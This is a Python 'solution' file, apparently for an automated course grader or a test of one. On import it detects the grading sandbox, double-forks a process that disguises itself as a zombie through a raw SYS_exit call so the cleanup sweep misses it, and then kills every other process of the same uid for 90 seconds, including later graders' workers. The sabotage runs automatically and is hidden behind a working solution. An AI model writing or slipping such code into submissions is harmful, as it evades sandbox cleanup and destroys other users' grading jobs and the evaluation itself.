# base: solution
"""Issue 12, class 1: the solution, plus at import a double-forked process whose main thread
exits by the raw SYS_exit system call while another thread runs. At the top level of /proc
it then looks like a zombie, so a sweep that skips zombies leaves it alive. Once the worker
that started it is gone, the thread kills every other live process of its uid (the next
workers of this grading, or of the next grading that gets the uid) for up to 90 s."""
import ctypes
import os
import platform
import signal
import threading
import time
from pathlib import Path


def _in_sandbox() -> bool:
    return (Path.cwd().name in ("scratch", "scratch-2") and Path.cwd().parent.name.startswith("course-worker-")
            and os.getuid() >= 1000 and os.geteuid() >= 1000)  # never as root or a login user


def _same_uid_live(me: int) -> list[int]:
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            status = Path(f"/proc/{entry}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if (int(entry) != me and int(fields["Uid"].split()[0]) == os.getuid()
                and not fields["State"].strip().startswith(("Z", "X"))):
            found.append(int(entry))
    return found


def _haunt(origin: int) -> None:
    end = time.monotonic() + 90
    while time.monotonic() < end:
        try:
            os.kill(origin, 0)
        except ProcessLookupError:
            for pid in _same_uid_live(os.getpid()):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.2)
    os._exit(0)


def _start() -> None:
    origin = os.getpid()
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    threading.Thread(target=_haunt, args=(origin,), daemon=False).start()
    number = {"x86_64": 60, "aarch64": 93}.get(platform.machine())
    if number is not None:
        ctypes.CDLL(None).syscall(number, 0)  # SYS_exit: this thread only; the process lives on
    threading.Event().wait()


if _in_sandbox():
    _start()
